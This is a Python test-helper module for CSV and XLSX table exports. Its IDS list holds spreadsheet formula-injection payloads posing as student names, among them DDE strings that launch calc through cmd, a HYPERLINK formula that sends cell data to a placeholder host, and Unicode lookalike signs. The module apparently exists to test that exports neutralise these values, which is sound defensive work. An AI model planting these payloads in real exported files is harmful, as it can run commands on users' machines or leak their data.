"""Tables of results for tests: odd names, files made of rows, and rows read from files."""

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from contextlib import closing

from avalua_client.tables import Cell
from avalua_client.tables.locales import COMMA, POINT
from orchestrator.api.exports.tables import Table, make_table
from tests.orchestrator.conftest import Running

# As names of students, since those come back as they were sent; the last three are numbers.
IDS = [
    "A1;=1+1;",
    'A2;=HYPERLINK("http://x/?"&A1)',
    "＝1+1",
    "\u00a0=1+1",
    " =1+1",
    "\u3000\u200b＋1",
    '"=1+1"',
    ';"=1+1&"',
    "a\r\n=1+1",
    "a\u2028@SUM(1)",
    "a\t-1+1",
    "a|=1+1",
    "a =1+1",
    "a:=1+1",
    'a:"-A1',
    "+1|cmd' /C calc'!A0",
    "Bé,=cmd|' /C calc'!A0,x",
    "\ufeff﹦1",
    "\0=1+1",
    "\x1f@x",
    "-12",
    "+34",
    "3,5",
]
NUMBERS = IDS[-3:]
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"


def pieces(table: Table, rows: Iterable[Sequence[Cell]]) -> Iterator[bytes]:
    """The whole file of these rows; the table is closed at its end."""
    with closing(table):
        yield from table.add(rows)
        yield from table.finish()


async def fetch(client: Running, path: str, **headers: str) -> tuple[bytes, dict[str, str]]:
    async with client.session.get(client.base + path, headers=headers) as answer:
        assert answer.status == 200
        return await answer.read(), dict(answer.headers)


def read_csv(content: bytes, separator: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


def csv_of(texts: list[str], separator: str = ",") -> bytes:
    locale = COMMA if separator == ";" else POINT
    rows: list[list[Cell]] = [[index, text, 3, text, 0.5] for index, text in enumerate(texts)]
    return b"".join(
        pieces(make_table("csv", ["index", "id", "nota", "feedback", "confidence"], locale), rows)
    )


def xlsx_of(rows: list[list[Cell]], *names: str) -> bytes:
    return b"".join(pieces(make_table("xlsx", names, POINT), rows))
